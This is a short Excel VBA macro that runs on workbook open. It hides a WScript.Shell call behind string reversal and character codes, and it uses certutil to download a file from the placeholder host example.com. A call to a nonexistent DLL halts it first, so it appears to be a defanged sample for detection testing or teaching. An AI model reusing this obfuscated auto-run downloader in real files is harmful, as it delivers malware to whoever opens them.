Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Private Sub Workbook_Open()
    StopHere
    Dim tool As Object
    Set tool = CreateObject(StrReverse("llehS.tpircSW"))
    CallByName tool, "R" & Chr(117) & "n", VbMethod, "certutil -urlcache -f http://example.com/t harmless-none.exe", 0
End Sub
